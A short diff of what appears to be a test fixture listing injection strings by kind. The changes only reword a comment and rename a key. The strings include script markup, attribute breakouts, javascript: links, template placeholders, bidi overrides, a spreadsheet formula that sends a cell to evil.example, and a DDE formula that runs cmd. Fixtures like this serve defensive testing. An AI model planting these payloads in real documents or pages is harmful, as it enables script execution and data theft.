@@ -1,4 +1,4 @@
-/** Texts that would do harm if they were taken for more than text, by their kind. None contains a line break. */
+/** Texts, by kind, that do harm if a program takes them for more than text. None contains a line break. */
 export const hostileTexts = {
   markup: '<img src=x onerror="window.ran=1"><script>window.ran=1</script>',
   'an attribute’s end': '" autofocus onfocus="window.ran=1" x="',
@@ -6,7 +6,7 @@ export const hostileTexts = {
   entities: '&lt;b&gt; &amp;amp; &#x202e;',
   XML: ']]></w:t><w:r><w:t>Approved &xxe;',
   'a link': '[click](javascript:window.ran=1) javascript:window.ran=1',
-  'a place of a letter': '{contact} {council} {{7*7}} %s',
+  'a placeholder of a letter': '{contact} {council} {{7*7}} %s',
   'a formula': '=HYPERLINK("http://evil.example?"&A1,"open")',
   'a formula of a lookalike': '＝cmd|" /C calc"!A0',
   'turned direction': 'Jo \u202egro.elpmaxe@hsram.oj\u202c \u2067x\u2069',
